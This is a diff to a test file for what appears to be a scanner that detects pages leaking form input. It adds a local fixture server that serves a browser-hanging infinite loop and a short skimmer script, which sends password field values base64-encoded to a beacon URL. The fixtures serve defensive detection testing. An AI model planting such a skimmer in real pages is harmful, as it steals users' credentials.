@@ -4,7 +4,8 @@
 // asserted), the reports, a browser killed mid-scan, Ctrl-C and resume.
 import { describe, expect, it } from 'vitest';
 import { spawn, type ChildProcess } from 'node:child_process';
-import { existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { KINDS } from './env';
@@ -152,4 +153,43 @@ describe.each(KINDS)('untapped scan in %s', (kind) => {
     expect(after.slice(0, before.length)).toEqual(before);
     expect(after.every((x) => x.status === 'ok')).toBe(true);
   }, 600_000);
+
+  it('scans a URL list: a site that hangs the page times out, the next one is scanned and its leak found by the browser alone', async () => {
+    // A site of our own, outside the corpus: no server log to fall back on.
+    const srv = createServer((req, res) => {
+      const port = (srv.address() as { port: number }).port;
+      res.setHeader('content-type', req.url!.endsWith('.js') ? 'text/javascript' : 'text/html');
+      if (req.url === '/hang/') {
+        // Loads, then never yields the main thread again.
+        res.end('<input type=password><script>addEventListener("load", () => setTimeout(() => { for (;;) {} }, 50))</script>');
+      } else if (req.url === '/leak.js') {
+        res.end('document.addEventListener("change", (e) => { new Image().src = "http://localhost:' + port + '/px?v=" + btoa(e.target.value); });');
+      } else if (req.url === '/ok/') {
+        res.end('<label>Password <input name=pw type=password></label><script src="http://localhost:' + port + '/leak.js"></script>');
+      } else {
+        res.statusCode = 204;
+        res.end();
+      }
+    });
+    await new Promise<void>((ok) => srv.listen(0, '127.0.0.1', ok));
+    const port = (srv.address() as { port: number }).port;
+    try {
+      const out = mkdtempSync(join(tmpdir(), `untapped-list-${kind}-`));
+      const list = join(out, 'sites.txt');
+      writeFileSync(list, `# two sites\nhttp://127.0.0.1:${port}/hang/\nhttp://127.0.0.1:${port}/ok/   # leaks the password\n`);
+      const r = run(['scan', list, '--out', out, '--browser', kind, '--timeout', '8', '--modes', 'monitor']);
+      expect(await r.exit, r.stderr()).toBe(0);
+      const recs = readRecords(out);
+      expect(recs.map((x) => [x.url.replace(String(port), 'PORT'), x.status])).toEqual([
+        ['http://127.0.0.1:PORT/hang/', 'timeout'],
+        ['http://127.0.0.1:PORT/ok/', 'ok'],
+      ]);
+      const ok = recs[1]!;
+      expect(ok.verdict).toMatchObject({ surveillance: true, exfiltration: true, exfiltrationProtected: null });
+      expect(ok.modes.monitor!.exfil.map((h) => [h.canary, h.encoding, h.source])).toContainEqual(['password', 'base64', 'browser']);
+      expect(ok.modes.protect).toBeUndefined();
+    } finally {
+      await new Promise((ok) => srv.close(ok));
+    }
+  }, 300_000);
 });
